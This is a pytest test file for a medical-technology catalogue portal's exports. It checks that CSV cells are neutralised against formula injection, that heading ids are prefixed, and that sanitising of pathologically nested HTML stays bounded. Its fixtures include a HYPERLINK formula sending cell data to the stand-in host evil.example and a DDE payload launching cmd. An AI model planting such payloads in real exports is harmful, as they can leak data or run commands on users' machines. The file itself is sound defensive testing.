"""Generated outputs hold up against hostile record content: formulas in the CSV,
heading ids in bodies, and bodies whose HTML would make sanitising slow.

Browser checks of the same (ids against the site's scripts, aligned table cells
under the Content-Security-Policy) are in test_security.py.
"""

from __future__ import annotations

import csv
import glob
import io
import json
import re
import textwrap
import time

import cmarkgfm
import pytest
import yaml

from conftest import MINIMAL, ROOT, today, write_data
from portal.catalogue import build_catalogue
from portal.outputs.opendata import neutralise_cell, opendata_files
from portal.render import text as text_module
from portal.render.text import BODY_ID_PREFIX, markdown_to_html, sanitising_is_bounded

# --- CSV formulas ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _quoted(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


def _edit(name: str, *pairs: tuple[str, str], extra: str = "") -> str:
    text = textwrap.dedent(MINIMAL[name])
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    return text + extra


@pytest.fixture(scope="module")
def formula_files(tmp_path_factory):
    records = {name: textwrap.dedent(text) for name, text in MINIMAL.items()}
    records["technologies/ai-jiu.yaml"] = _edit(
        "technologies/ai-jiu.yaml",
        ("name: 艾灸", f"name: {_quoted(HYPERLINK)}"),
        ("aliases: [灸法]", f"aliases: [{_quoted(DDE)}, 灸法]"),
        ("  - title: 《中医医疗技术相关性感染预防与控制指南（试行）》", "  - title: ＝1+1"),
        extra="specialties: [\"+1+2\", 针灸科]\nequipment: [\"-2+3+cmd|' /C calc'!A0\"]\n")
    records["technologies/old-tech.yaml"] = _edit(
        "technologies/old-tech.yaml",
        ("name: 旧技术", "name: 旧技术-改良版"),
        ("summary: 已被迭代的技术。", "summary: 自 2023-01-01 起停用，-1 与 =1 不在开头。"),
        extra="aliases: [a-b, x@y.example, \"a;b\"]\n")
    records["mentors/example-a.yaml"] = _edit(
        "mentors/example-a.yaml", extra="title: ＋主任医师\ninstitution: ＠某医院\ncertificate_no: \"-12345\"\n")
    records["policies/2024-zhong-yi-yao.yaml"] = _edit(
        "policies/2024-zhong-yi-yao.yaml", extra="keywords: [\"中医药;=1+1\", －号]\n")
    data = write_data(tmp_path_factory.mktemp("formulas") / "data", records)
    return opendata_files(build_catalogue(data, today()))


def _csv_rows(files, collection: str) -> dict[str, dict[str, str]]:
    text = files[f"api/{collection}.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}


def _json_record(files, collection: str, record_id: str) -> dict:
    return json.loads(files[f"api/{collection}/{record_id}.json"].decode("utf-8"))


def test_csv_cells_that_spreadsheets_would_run_start_with_a_quote(formula_files):
    techs = _csv_rows(formula_files, "technologies")
    ai_jiu = techs["ai-jiu"]
    assert ai_jiu["name"] == "'" + HYPERLINK
    assert ai_jiu["aliases"] == "'" + DDE + "；灸法"
    assert ai_jiu["specialties"] == "'+1+2；针灸科"
    assert ai_jiu["equipment"] == "'-2+3+cmd|' /C calc'!A0"
    assert ai_jiu["sources"] == "'＝1+1"                       # full-width forms too
    mentor = _csv_rows(formula_files, "mentors")["example-a"]
    assert mentor["title"] == "'＋主任医师" and mentor["institution"] == "'＠某医院"
    policy = _csv_rows(formula_files, "policies")["2024-zhong-yi-yao"]
    # After an ASCII ";" a spreadsheet with ";" as list separator starts a new cell.
    assert policy["keywords"] == "中医药;'=1+1；－号"


def test_csv_ordinary_cells_are_unchanged(formula_files):
    techs = _csv_rows(formula_files, "technologies")
    old = techs["old-tech"]
    assert old["name"] == "旧技术-改良版"
    assert old["summary"] == "自 2023-01-01 起停用，-1 与 =1 不在开头。"
    assert old["aliases"] == "a-b；x@y.example；a;b"
    assert old["review_due"] == "2023-01-01" and techs["ai-jiu"]["warehoused"] == "2022-05-01"
    assert techs["ai-jiu"]["url"] == "technologies/ai-jiu/" and old["successor"] == "ai-jiu"
    # A plain negative number is a number to a spreadsheet, not a formula.
    assert _csv_rows(formula_files, "mentors")["example-a"]["certificate_no"] == "-12345"


def test_json_keeps_the_original_text(formula_files):
    tech = _json_record(formula_files, "technologies", "ai-jiu")
    assert tech["name"] == HYPERLINK and tech["aliases"] == [DDE, "灸法"]
    assert tech["sources"] == [{"title": "＝1+1"}]
    policy = _json_record(formula_files, "policies", "2024-zhong-yi-yao")
    assert policy["keywords"] == ["中医药;=1+1", "－号"]
    listed = json.loads(formula_files["api/technologies.json"].decode("utf-8"))["records"]
    assert next(r for r in listed if r["id"] == "ai-jiu")["name"] == HYPERLINK


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\0=1",
                                   "＝1+1", "＋1", "－1", "＠SUM(A1)"])
def test_neutralise_cell_triggers(value):
    # Tab, CR and NUL cannot reach a record (the validator trims or refuses them);
    # the CSV writer still neutralises them.
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "艾灸", "2024-03-28", "a-b", "x=1", "1+1", "-3", "+4.5", "'=1",
                                   "a;b", "a；=b", "a,=b"])
def test_neutralise_cell_leaves_ordinary_text(value):
    assert neutralise_cell(value) == value


# --- heading ids -------------------------------------------------------------

SHADOWING_BODY = """\
<h2 id="PORTAL_SEARCH_BACKEND">背景</h2>

正文，见[背景](#PORTAL_SEARCH_BACKEND)和[检索框](#portal-search-q)，[外部链接](https://example.org/#x)，[页首](#)。

<h3 id="portal-search-q">检索</h3>

<h4 id="user-content-done">已有前缀</h4>

<a href="#user-content-done">已有前缀的链接</a>
"""


def test_body_ids_are_prefixed_and_fragment_links_follow():
    html = markdown_to_html(SHADOWING_BODY)
    assert re.findall(r'\sid="([^"]*)"', html) == [
        BODY_ID_PREFIX + "PORTAL_SEARCH_BACKEND", BODY_ID_PREFIX + "portal-search-q", BODY_ID_PREFIX + "done"]
    assert re.findall(r'\shref="([^"]*)"', html) == [
        "#" + BODY_ID_PREFIX + "PORTAL_SEARCH_BACKEND", "#" + BODY_ID_PREFIX + "portal-search-q",
        "https://example.org/#x", "#", "#" + BODY_ID_PREFIX + "done"]


# --- bounded sanitising ------------------------------------------------------

def _cmark(text: str) -> str:
    return cmarkgfm.markdown_to_html_with_extensions(
        text, options=text_module._MARKDOWN_OPTIONS, extensions=text_module._MARKDOWN_EXTENSIONS)


HOSTILE_BODIES = {
    # 650 KB: html5ever would need minutes.
    "nested div": "<div>" * 130_000 + "正文",
    "nested quote markers": "> " * 60_000 + "引文\n",
    # Every </p> leaves a <b> the parser re-opens in each later paragraph.
    "misnested formatting": "".join(f"<p><b id={k}>段落</p>" for k in range(8000)),
    # </span> is ignored inside the <div>: the divs nest although each span is "closed".
    "ignored end tags": "<span><div></span>" * 40_000,
    # End tags in comments, attribute values and script text are not end tags.
    "end tags in comments": "<div><!--</div>-->" * 40_000,
    "end tags in attributes": '<div title="</div>">' * 40_000,
    "end tags in script": "<div><script></div></script>" * 20_000,
    "many attributes": "<b " + " ".join(f"a{i}" for i in range(100_000)) + ">正文</b>",
}


@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_hostile_nesting_is_shown_as_text_in_linear_time(body):
    started = time.perf_counter()
    html = markdown_to_html(body)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.5, elapsed
    assert set(re.findall(r"<(/?[^>]*)>", html)) <= {"p", "/p"}   # no tag from the input
    assert html.startswith("<p>") and ("&lt;" in html or "&gt;" in html)
    assert not sanitising_is_bounded(_cmark(body))


ORDINARY_BODY = textwrap.dedent("""\
    ## 一、适用范围

    本技术适用于**乡镇卫生院**和*社区卫生服务中心*，详见[指南](https://example.org/guide)。

    > 引文第一层
    >
    > > 引文第二层

    1. 第一步
       - 要点甲
         - 细目
    2. 第二步

    | 项目 | 学时 |
    |---|---:|
    | 理论 | 30 |
    | 实践 | 90 |

    <details><summary>附注</summary><p>原文第 <abbr title="页">3</abbr> 页</p></details>

    <!-- 维护者注释 -->

    `代码` 与 <kbd>Ctrl</kbd>
    """) * 12


def test_ordinary_body_is_unchanged(monkeypatch):
    assert len(_cmark(ORDINARY_BODY)) > text_module._SCAN_FROM_LENGTH   # the scan really runs
    assert sanitising_is_bounded(_cmark(ORDINARY_BODY))
    guarded = text_module._markdown_to_html(ORDINARY_BODY, 1)
    monkeypatch.setattr(text_module, "sanitising_is_bounded", lambda html: True)
    assert text_module._markdown_to_html(ORDINARY_BODY, 1) == guarded
    assert '<td align="right">30</td>' in guarded and "<blockquote>" in guarded and "<details>" in guarded


def test_deep_but_reasonable_nesting_stays_formatted():
    body = "".join("  " * level + "- 条目\n" for level in range(40)) + "\n" + "> " * 60 + "引文\n"
    body += "\n正文。\n" * 300
    assert len(_cmark(body)) > text_module._SCAN_FROM_LENGTH
    html = markdown_to_html(body)
    assert html.count("<ul>") == 40 and html.count("<blockquote>") == 60


def test_every_repository_body_is_sanitised():
    checked = 0
    for path in glob.glob(str(ROOT / "data" / "*" / "*.yaml")):
        body = (yaml.safe_load(open(path, encoding="utf-8-sig")) or {}).get("body")
        if body:
            assert sanitising_is_bounded(_cmark(body)), path
            checked += 1
    assert checked > 0
